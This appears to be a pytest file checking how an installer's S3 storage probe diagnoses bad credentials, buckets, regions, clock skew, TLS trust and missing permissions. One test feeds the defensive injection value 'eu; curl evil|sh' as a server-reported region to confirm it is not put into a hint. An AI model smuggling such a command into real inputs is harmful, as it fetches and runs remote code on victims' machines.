"""What is wrong with a storage, and the next step: a real one, and answers that only others give."""

from __future__ import annotations

import dataclasses
import datetime
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

from installer.host.paths import Places
from installer.model.registry.keys import Keys
from installer.model.registry.storage import S3Storage
from installer.storage import bucket
from installer.storage.probe import address_problem, storage_problem, storage_problems
from tests.support.fake_registry import Certificate
from tests.support.real_s3 import KEYS, RealS3


@pytest.fixture(scope="module")
def s3(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealS3]:
    with RealS3(tmp_path_factory.mktemp("s3")) as s3:
        yield s3


@pytest.mark.e2e
@pytest.mark.parametrize("prefix", ["", "team", "team/a.b"])
def test_a_bucket_that_is_ready_keeps_nothing(s3: RealS3, prefix: str) -> None:
    assert storage_problem(s3.storage(prefix), KEYS) is None
    assert storage_problems(s3.storage(prefix), KEYS) == []
    assert s3.objects == []


@pytest.mark.e2e
def test_what_is_wrong_is_told_apart(s3: RealS3) -> None:
    good = s3.storage("team")
    for storage, keys, message, hint in (
        (good, Keys("AKIAOTHER", "x"), "does not know the access key", "--s3-credentials FILE"),
        (good, Keys(KEYS.identity, "wrong"), "does not take the secret key", "--s3-credentials FILE"),
        (dataclasses.replace(good, bucket="other"), KEYS, "has no bucket `other`", "s3 mb s3://other"),
        (dataclasses.replace(good, region="eu-1"), KEYS, "in the region `us-east-1`, not `eu-1`", "--s3-region us"),
    ):
        (problem,) = storage_problems(storage, keys)
        assert message in problem.message and hint in str(problem.hint)
        assert problem.subject == f"storage {storage}"
        for secret in (KEYS.secret, keys.secret):
            assert secret not in f"{problem.message} {problem.hint}"


@pytest.mark.e2e
def test_a_clock_that_is_wrong(s3: RealS3) -> None:
    class Late(datetime.datetime):
        @classmethod
        def now(cls, tz: Any = None) -> Any:
            return super().now(tz) - datetime.timedelta(hours=5)

    with mock.patch.object(bucket.datetime, "datetime", Late):
        (problem,) = storage_problems(s3.storage(), KEYS)
    assert "the clocks differ: this one says" in problem.message
    assert "sudo date -u -s" in str(problem.hint)


@pytest.mark.e2e
def test_a_ca_of_its_own(tmp_path: Path) -> None:
    certificate = Certificate.make(tmp_path)
    with RealS3(tmp_path, tls=certificate) as s3:
        (problem,) = storage_problems(s3.storage(), KEYS)
        assert "is not trusted" in problem.message and "--s3-ca FILE" in str(problem.hint)
        assert storage_problems(s3.storage(authority=certificate.file), KEYS) == []


class _Denying(http.server.BaseHTTPRequestHandler):
    """An S3 that allows what `allowed` says: a set of method and query, or object."""

    allowed: frozenset[str] = frozenset()
    protocol_version = "HTTP/1.1"
    body = b""

    def _answer(self) -> None:
        content = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        path, _, query = self.path.partition("?")
        what = f"{self.command} {query.partition('=')[0] or ('object' if path.count('/') > 1 else '')}"
        status, data = 403, b"<Error><Code>AccessDenied</Code></Error>"
        if what in self.allowed:
            _Denying.body = content or self.body
            status, data = 200, self.body if what == "GET object" else b"<R><UploadId>1</UploadId></R>"
        self.send_response(status)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_PUT = do_POST = do_DELETE = _answer

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.mark.parametrize(
    ("allowed", "rights"),
    [
        (set(), ["s3:ListBucket"]),
        ({"GET list-type"}, ["s3:PutObject"]),
        (
            {"GET list-type", "PUT object"},
            ["s3:GetObject", "s3:PutObject", "s3:DeleteObject"],
        ),
        (
            {"GET list-type", "PUT object", "GET object", "POST uploads", "DELETE object"},
            ["s3:ListBucketMultipartUploads", "s3:AbortMultipartUpload"],
        ),
    ],
)
def test_every_right_that_is_missing_is_named(allowed: set[str], rights: list[str]) -> None:
    """A policy of Amazon's has each of them by itself."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Denying) as server:
        threading.Thread(target=server.serve_forever).start()
        with mock.patch.object(_Denying, "allowed", frozenset(allowed)):
            storage = S3Storage("b", "", f"http://127.0.0.1:{server.server_port}")
            problems = storage_problems(storage, KEYS)
        server.shutdown()
    # What could not be removed is named.
    assert [str(problem.hint).split()[1] for problem in problems] == rights
    assert all("AccessDenied" in problem.message for problem in problems)
    left = [problem for problem in problems if problem.message.endswith("stays there")]
    assert len(left) == ("s3:DeleteObject" in rights)


@pytest.mark.parametrize(
    ("said", "hint"),
    [("eu-1", "--s3-region eu-1"), ("eu; curl evil|sh", "is that the S3 interface"), ("us-east-1", "is")],
)
def test_a_region_is_typed_only_where_it_is_one(said: str, hint: str) -> None:
    data = f"<Error><Code>AuthorizationHeaderMalformed</Code><Region>{said}</Region></Error>".encode()
    with mock.patch.object(bucket.Bucket, "send", return_value=bucket.Answer(400, data, said, None)):
        problem = storage_problem(S3Storage("b", "", "https://s3.corp"), KEYS)
    assert problem and str(problem.hint).startswith(hint)
    assert ("in the region" in problem.message) == (said == "eu-1")


def test_an_address_that_the_container_does_not_reach(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/hosts").write_text("192.0.2.7 s3.corp\n")
    host: Any = mock.Mock(places=Places.of({"HOME": str(tmp_path), "BUNDLE_HOST": str(tmp_path)}))
    for endpoint, message in (
        ("http://127.0.0.1:9000", "the registry's container itself"),
        ("http://localhost", "the registry's container itself"),
        ("https://s3.corp", "/etc/hosts"),
    ):
        problem = address_problem(S3Storage("b", "", endpoint), host)
        assert problem and message in problem.message and "address" in str(problem.hint)
    assert address_problem(S3Storage("b", "", "https://192.0.2.7"), host) is None
